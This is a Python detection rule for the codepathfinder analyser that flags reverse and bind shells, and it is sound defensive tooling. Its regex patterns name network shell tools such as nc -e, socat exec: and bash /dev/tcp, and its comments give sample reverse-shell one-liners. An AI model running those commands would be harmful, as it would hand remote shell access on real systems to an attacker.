from codepathfinder import calls, dynamic, regex, variable, And, Or
from codepathfinder.python_decorators import python_rule

# Interactive shells.
SHELL = r"(?i)^(\S*[/\\])?((ba|da|z|k|mk|c|tc|a|fi)?sh|cmd|powershell|pwsh)(\.exe)?(\s+-i)?$"
# Shell one-liners that connect a shell to the network: bash /dev/tcp redirection, nc/ncat -e, socat exec:,
# the mkfifo + nc pipe, and python -c payloads that dup2 a socket onto stdio.
NETWORK_SHELL = r"(?i)/dev/(tcp|udp)/|\b(nc|ncat|netcat)\b[^|;&]*\s-[a-z]*[ec]\s|\bsocat\b[^|;&]*\bexec:|\bmkfifo\b.*\|\s*\S*sh\b.*\|\s*(nc|ncat|netcat)\b|dup2\(\s*\w+\.fileno\(\)"


@python_rule(
    id="PYTHON-LANG-SEC-014",
    name="Python Reverse Shell Detected",
    severity="CRITICAL",
    category="lang",
    cwe="CWE-506",
    owasp="A08:2021",
    message="A network connection is wired to a shell's standard input and output (a reverse or bind shell). Remove this code and investigate how it got here; remote administration belongs to SSH or an authenticated management API.",
)
def detect_reverse_shell():
    """Socket descriptors duplicated onto stdio, shells started on a socket, and network-shell one-liners."""
    # Names a socket or connection object goes by in an argument: s.fileno(), sock, self.conn, client_sock ...
    socket_mentioned = Or(
        variable("s"),
        variable("*sock*"),
        variable("conn"),
        variable("conn_*"),
        variable("*_conn"),
        variable("connection"),
        variable("client"),
        variable("client_*"),
        variable("remote"),
        variable("peer"),
    )
    return Or(
        # os.dup2(s.fileno(), 0/1/2), os.dup2(sock.fileno(), sys.stdout.fileno()), or a loop over the three fds.
        And(
            calls("os.dup2"),
            Or(
                calls("os.dup2", match_position={1: [0, 1, 2]}),
                calls("os.dup2", match_position={1: dynamic()}),
            ),
            socket_mentioned,
        ),
        # subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
        And(
            Or(
                calls(
                    "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.run", "subprocess.Popen",
                    match_position={0: regex(SHELL)},
                ),
                calls(
                    "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.run", "subprocess.Popen",
                    match_position={"0[0]": regex(SHELL)},
                ),
            ),
            calls(
                "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.run", "subprocess.Popen",
                match_name={"stdin": dynamic(), "stdout": dynamic()},
            ),
            socket_mentioned,
        ),
        # os.system("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), subprocess.run("nc -e /bin/sh ...", shell=True)
        calls(
            "os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput",
            "asyncio.create_subprocess_shell", "pty.spawn",
            "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.run", "subprocess.Popen",
            match_position={0: regex(NETWORK_SHELL)},
        ),
        calls(
            "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.run", "subprocess.Popen",
            match_position={"0[2]": regex(NETWORK_SHELL)},
        ),
        # subprocess.Popen(["nc", "-e", "/bin/sh", host, port]) and ["ncat", "--exec", ...]
        calls(
            "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.run", "subprocess.Popen",
            match_position={"0[0]": regex(r"^(\S*/)?(nc|ncat|netcat)$"), "0[1]": regex(r"^(-[a-z]*[ec]|--exec|--sh-exec)$")},
        ),
    )
